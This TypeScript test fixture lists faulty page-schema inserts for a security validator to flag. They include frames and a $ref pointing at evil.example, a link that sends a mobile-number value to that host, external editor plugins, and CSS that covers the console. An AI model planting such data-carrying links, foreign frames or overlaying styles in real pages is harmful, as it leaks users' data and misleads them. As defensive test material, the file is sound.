import { places, type Fault } from './fault';

const { columns } = places;

export const outsideFaults: Fault[] = [
  {
    name: 'a frame of another host',
    at: '/body',
    put: { type: 'iframe', src: 'https://evil.example' },
    rule: 'outside/foreign-frame',
    pointer: '/body/src',
  },
  {
    name: 'a frame whose address is data',
    at: '/body',
    put: { type: 'iframe', src: '${url}' },
    rule: 'outside/foreign-frame',
    pointer: '/body/src',
  },
  {
    name: 'a remote schema',
    at: '/body',
    put: { type: 'service', schemaApi: '/api/admin/index' },
    rule: 'outside/remote-schema',
    pointer: '/body/schemaApi',
  },
  {
    name: 'a $ref out of the page',
    at: '/body',
    put: { $ref: 'https://evil.example/x.json' },
    rule: 'outside/foreign-ref',
    pointer: '/body/$ref',
  },
  {
    name: 'a link to another host',
    at: `${columns}/-`,
    put: { type: 'link', href: 'https://evil.example' },
    rule: 'outside/foreign-link',
    pointer: `${columns}/5/href`,
  },
  {
    name: 'a link that carries data to another host',
    at: `${columns}/-`,
    put: { type: 'link', href: 'https://evil.example/?mobile=${mobile}' },
    rule: 'outside/data-to-foreign',
    pointer: `${columns}/5/href`,
  },
  {
    name: 'an image of another host in HTML',
    at: `${columns}/1/tpl`,
    put: '<img src="//evil.example/x.png">',
    rule: 'outside/foreign-content',
  },
  {
    name: 'a window that can reach back',
    at: `${columns}/1/tpl`,
    put: '<a href="https://example.com" target="_blank">x</a>',
    rule: 'outside/foreign-content',
    says: '新窗口',
  },
  {
    name: "a plugin of the rich text's own",
    at: `${columns}/-`,
    put: { type: 'input-rich-text', name: 'remark', options: { external_plugins: { x: '/x.js' } } },
    rule: 'outside/editor-option',
    pointer: `${columns}/5/options/external_plugins`,
  },
  {
    name: 'a class that covers the console',
    at: '/body/columns/0/className',
    put: 'text-danger fixed top-0',
    rule: 'outside/covering-class',
    says: '不能使用样式类 fixed',
  },
  {
    name: 'a style that covers its neighbours',
    at: '/body/columns/0/style',
    put: { color: 'red', marginTop: '-40px' },
    rule: 'outside/covering-style',
    pointer: '/body/columns/0/style/marginTop',
    says: 'marginTop: -40px',
  },
];
